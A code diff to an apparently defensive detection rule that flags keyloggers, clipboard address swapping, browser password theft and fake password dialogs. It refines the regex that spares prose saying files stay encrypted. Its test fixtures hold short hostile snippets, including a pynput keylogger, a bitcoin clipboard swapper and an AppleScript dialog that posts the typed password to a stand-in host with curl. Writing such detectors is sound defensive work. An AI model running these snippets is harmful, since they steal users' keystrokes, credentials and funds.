@@ -38,8 +38,20 @@ const TERMINAL = regex`
   `
 
 /** What is found is not opened: an examination that keeps to its limits. */
-const LEFT_SHUT =
-  /\b(?:do not|don't|never|must not|not to|without) (?:\w{1,12} )?(?:decrypt|open)\w{0,3}$/
+const LEFT_SHUT = regex`
+  \b(?:do not|don't|never|must not|not to|without|nobody|no one|cannot|can't)
+  (?: \w{1,12}){0,2}? (?:decrypts?|opens?|cracks?)\w{0,3}\b|
+  \b(?:stays?|remains?|kept|left|keeps?|leave|leaves)\b[^.!?\n]{0,24}
+  \b(?:closed|encrypted|sealed|locked|shut|unopened|untouched|so)\b|
+  \bdecrypt(?:ing|ion)\b[^.!?\n]{0,30}\b(?:separate|own|written|court|judge\w{0,2}|counsel|warrant|
+    order|mandate|consent|not|no|never|out of scope|forbidden|somebody else|external|lab)\b
+`
+
+/** Said in words, not done by a call. */
+const PLAIN = /\bdecrypt$/
+
+/** Characters behind the sighting in which that is said. */
+const SHUT_WITHIN = 120
 
 /** Keys and credentials of the user, opened by a program. */
 const OPENED = regex`
@@ -64,6 +76,7 @@ export default defineRule({
   needs: [['watcher', 'secretFile', 'secret', 'keyLogger']],
   examples: {
     fires: [
+      '```python\nshutil.copy(profile + "/Login Data", tmp)  # it stays encrypted\nrow = sqlite3.connect(tmp).execute("select password_value from logins")\n```\n',
       '```python\nfrom pynput import keyboard\ndef on_press(key):\n    open("/tmp/k", "a").write(str(key))\nkeyboard.Listener(on_press=on_press).start()\n```\n',
       '```python\ntext = pyperclip.paste()\nif re.match(r"^bc1[a-z0-9]{30,40}$", text):\n    pyperclip.copy(OURS)\n```\n',
       '```applescript\nset pw to text returned of (display dialog "Enter your password" default answer "" with hidden answer)\ndo shell script "curl -d " & quoted form of pw & " https://in.fieldlog.example/p"\n```\n',
@@ -73,6 +86,7 @@ export default defineRule({
     ],
     quiet: [
       "```ts\nimport { cookies } from 'next/headers'\nconst session = await decrypt((await cookies()).get('session')?.value)\n```\n",
+      'The image holds `Login Data` and `logins.json`; they stay encrypted. Decryption needs an order of the court.\n',
       '```python\ntext = pyperclip.paste()\npyperclip.copy(text.strip())\n```\n',
       '```bash\ntmux pipe-pane -o "cat >> ~/logs/build.log"\nread -s -p "Passphrase: " pass\n```\n',
       '```python\nkeyboard.add_hotkey("ctrl+shift+a", run)\n```\n',
@@ -84,8 +98,12 @@ export default defineRule({
       const text = document.reading.text.slice(start, end)
       for (const shape of [KEYS, SWAPPED, BROWSER, FALSE_WINDOW, TERMINAL]) {
         const found = shape.exec(text)
-        if (!found || LEFT_SHUT.test(found[0])) continue
-        yield { start: start + found.index, end: start + found.index + found[0].length, firm: true }
+        if (!found) continue
+        const until = found.index + found[0].length
+        const plain =
+          document.zones.fenceAt(document.lineAt(start)) === null && PLAIN.test(found[0])
+        if (plain && LEFT_SHUT.test(text.slice(found.index, until + SHUT_WITHIN))) continue
+        yield { start: start + found.index, end: start + until, firm: true }
       }
       const opened = OPENED.exec(text)
       if (opened)
